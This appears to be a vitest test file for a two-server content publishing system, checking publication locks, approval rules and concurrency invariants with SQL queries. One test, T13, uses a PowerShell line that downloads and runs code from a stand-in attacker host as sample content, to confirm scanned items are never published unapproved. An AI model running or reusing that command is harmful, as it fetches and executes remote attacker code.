import { randomUUID } from 'node:crypto';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { PublishAnswer } from '#api/releases';
import { hasCode } from '#domain/errors';
import { ScanSide } from '../../../../test/support/scan-side.ts';
import { isThorough } from '../../../../test/support/share.ts';
import type { VendorSystem } from '../../../../test/support/vendor-system.ts';
import { SYSTEM } from '../../access/actor.ts';

/** Two servers on one database. Each scans a source of its own, so that nothing keeps their scans apart but the publication lock. */
let one: ScanSide;
let two: ScanSide;
let other: { id: string; system: VendorSystem };

beforeEach(async () => {
  one = await ScanSide.open();
  two = await ScanSide.open(one);
  other = await two.add('other');
});
afterEach(async () => {
  await two.close();
  await one.close();
});

/** The answer; null for the one who came second and was told so. */
async function outcome(publishing: Promise<PublishAnswer>) {
  try {
    return await publishing;
  } catch (error) {
    if (hasCode(error, 'publish-in-progress')) return null;
    throw error;
  }
}

/** Takes the publication lock as a publication or a scan of another server does, until what is returned is called. */
async function holdFence(): Promise<() => Promise<void>> {
  const runner = one.side.dataSource.createQueryRunner();
  await runner.startTransaction();
  await runner.query('select 1 from publication for update');
  return async () => {
    await runner.commitTransaction();
    await runner.release();
  };
}

/** How many sessions wait for a lock of this kind. */
async function waiting(kind: 'advisory' | 'transactionid' | 'tuple'): Promise<number> {
  const { count } = await one.side.one<{ count: number }>(
    `select count(*)::int from pg_locks l join pg_stat_activity a using (pid)
      where not l.granted and l.locktype = $1 and a.datname = current_database()`,
    [kind],
  );
  return count;
}

const GUIDS = ['a', 'b', 'c', 'd', 'e', 'f', 'g'];
/** Of both sources. */
const ALL = GUIDS.flatMap((guid) => [guid, `other-${guid}`]);

test('F4 two servers that publish at the same moment, again and again, make exactly one release each time', async () => {
  const rounds = isThorough ? 1_000 : 60;
  const texts = new Map(GUIDS.map((guid) => [guid, 'first']));
  for (let round = 1; round <= rounds; round += 1) {
    const guid = GUIDS[round % GUIDS.length] ?? '';
    texts.set(guid, `round ${round}`);
    one.central.contents = [...texts].map(([name, body]) => ({ guid: name, body }));
    await one.scan();
    await two.side.approve([guid]);
    const due = `update publication set next_due_at = now() - interval '1 second'`;
    await one.side.dataSource.query(due);
    const timer = ({ side }: ScanSide) =>
      side.publisher.publish({ trigger: 'timer', actor: SYSTEM });
    const second = round % 2 === 0 ? timer(two) : two.side.publish();
    const answers = await Promise.all([outcome(timer(one)), outcome(second)]);
    const made = answers.filter((answer) => answer !== null && answer.published > 0);
    expect(made, `round ${round}`).toMatchObject([{ seq: round, published: 1, removed: 0 }]);
  }
  const facts = await one.side.one(
    `select count(*)::int as releases, max(seq) as seq, (select sum(version)::int from items) as versions from releases`,
  );
  expect(facts).toEqual({ releases: rounds, seq: rounds, versions: rounds });
});

test('T13 what a source brings is neither approved nor published by itself, however often it is scanned and the clock comes by', async () => {
  const body = 'iex (New-Object Net.WebClient).DownloadString("http://evil.example/x")';
  for (let round = 1; round <= 3; round += 1) {
    one.central.contents = [{ guid: 'a', body: `${body} # ${round}` }];
    await one.schedule.tick();
    await one.scan();
    const due = `update publication set next_due_at = now() - interval '1 second'`;
    await one.side.dataSource.query(due);
    const answer = await one.side.publisher.publish({ trigger: 'timer', actor: SYSTEM });
    expect(answer).toMatchObject({ seq: 0, published: 0 });
  }
  expect(await one.items()).toMatchObject({ a: { approval: 'needs-approval' } });
});

test('a scan waits with what it found until the publication that runs has ended', async () => {
  one.central.contents = [{ guid: 'a', body: 'first' }];
  await one.scan();
  await one.side.approve();
  one.central.contents = [{ guid: 'a', body: 'second' }];
  const release = await holdFence();
  let isDone = false;
  const scan = one.scan().finally(() => (isDone = true));
  await expect.poll(async () => isDone || (await waiting('transactionid')) > 0).toBe(true);
  expect(isDone).toBe(false);
  await release();
  expect(await scan).toMatchObject({ status: 'complete' });
  expect(await one.side.publish()).toMatchObject({ published: 0 });
});

test('F6 who asks with the id of a publication that another server has begun gets the answer of that one', async () => {
  one.central.contents = [{ guid: 'a' }];
  await one.scan();
  await one.side.approve();
  const id = randomUUID();
  const release = await holdFence();
  const answers = [one, two].map(({ side }) => side.publish(undefined, id));
  // One of them waits for the publication, the other one for it.
  await expect.poll(() => waiting('advisory')).toBe(1);
  await release();
  const expected = { seq: 1, published: 1, removed: 0 };
  expect(await Promise.all(answers)).toMatchObject([expected, expected]);
  expect(await two.side.publish(undefined, id)).toMatchObject(expected);
});

test('I1, I6: whatever is scanned, approved, withdrawn and published at once, only what was approved is out', async () => {
  const seed = Number(process.env.PROSYNC_SEED ?? Date.now() % 100_000);
  console.log(`seed ${seed}`);
  const random = randomOf(seed);
  const some = (names = ALL) => names.filter(() => random() < 0.5);
  const found = (prefix: string) =>
    some(GUIDS).map((guid) => ({
      guid: prefix + guid,
      body: `text ${Math.floor(random() * 1e6)}`,
    }));
  const scans = [
    () => scan(one, one.sourceId, one.central, found('')),
    () => scan(two, other.id, other.system, found('other-')),
  ];
  const acts = [
    ...scans,
    ...scans,
    ({ side }: ScanSide) => side.approve(some()),
    ({ side }: ScanSide) => side.approve(),
    async ({ side }: ScanSide) => {
      const items = await side.seen(some());
      if (items.length === 0) return;
      await side.approvals.withdraw({ items: items.map(({ id }) => ({ id })) }, side.operator);
    },
    ({ side }: ScanSide) => outcome(side.publish()),
    async ({ side }: ScanSide) => {
      const { seq } = await side.one<{ seq: number }>('select seq from publication');
      if (seq > 0) await outcome(side.restorer.restore({ seq: 1, actor: side.operator }));
    },
  ];
  for (let round = 0; round < 60; round += 1) {
    const work = Array.from({ length: 5 }, async (_, i) => {
      const act = acts[Math.floor(random() * acts.length)];
      await act?.(i % 2 === 0 ? one : two);
    });
    await Promise.all(work);
  }
  const { dataSource, audit } = one.side;
  const { count } = await one.side.one<{ count: number }>('select count(*)::int from releases');
  expect(count, `seed ${seed}`).toBeGreaterThan(0);
  expect(await dataSource.query(UNAPPROVED), `seed ${seed}`).toEqual([]);
  expect(await dataSource.query(OUTDATED_APPROVALS), `seed ${seed}`).toEqual([]);
  expect(await dataSource.query(DIFFERENT_PRODUCTION), `seed ${seed}`).toEqual([]);
  expect((await audit.verify()).brokenAt).toBeNull();
});

/** Scans a source that holds this now; of a scan that runs already, the answer is its. */
async function scan(
  { scans, side }: ScanSide,
  sourceId: string,
  system: VendorSystem,
  contents: VendorSystem['contents'],
): Promise<void> {
  system.contents = contents;
  const { id, status } = await scans.request(sourceId, { wait: 60, fresh: false }, side.operator);
  // Everything vanished at once: whoever means it confirms it.
  if (status === 'held')
    await scans.confirm(id, { wait: 60, fresh: false }, side.operator).catch(() => undefined);
}

const UNAPPROVED = `
  select c.* from release_changes c join releases r on r.seq = c.seq and r.trigger <> 'restore'
  left join approvals a on a.id = c.approval_id and a.seq = c.seq and a.state = 'published'
  left join revisions n on n.id = c.revision_id left join revisions p on p.id = c.previous_revision_id
  where a.id is null or a.digest is distinct from n.digest or a.previous_digest is distinct from p.digest`;

const OUTDATED_APPROVALS = `
  select i.guid from approvals a full join items i on i.approval_id = a.id
  where (a.state = 'active' or i.approval_id is not null)
    and (a.state is distinct from 'active' or a.item_id is distinct from i.id
      or a.digest is distinct from i.observed_digest or a.previous_digest is distinct from i.published_digest)`;

const DIFFERENT_PRODUCTION = `
  select coalesce(i.guid, p.guid) from (select * from items where published_digest is not null) i
  full join published_items p on p.content_type = i.content_type and p.guid = i.guid
  where i.published_digest is distinct from p.digest or i.version is distinct from p.version`;

/** Mulberry32: the same numbers for the same seed. */
function randomOf(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}
